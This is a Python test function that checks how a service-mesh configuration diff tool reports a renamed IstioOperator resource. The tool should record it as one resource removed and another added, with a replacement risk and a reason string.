def test_a_renamed_istio_operator_is_a_replacement_both_ways(tmp_path):  # type: ignore[no-untyped-def]
    from meshgen.diff.story import diff

    fleet(tmp_path / "old")
    config = fleet(tmp_path / "new", istio={"version": "1.11.3", "metadata": {"name": "other"}})

    found = diff(str(tmp_path / "old"), config)

    for name in ("msa", "other"):
        change = one(found, "IstioOperator", name).change
        assert change.risk in ("replacement", "exposure")
        assert change.action == ("removed" if name == "msa" else "added")
    assert "msa becomes other" in " ".join(one(found, "IstioOperator", "msa").change.reasons)
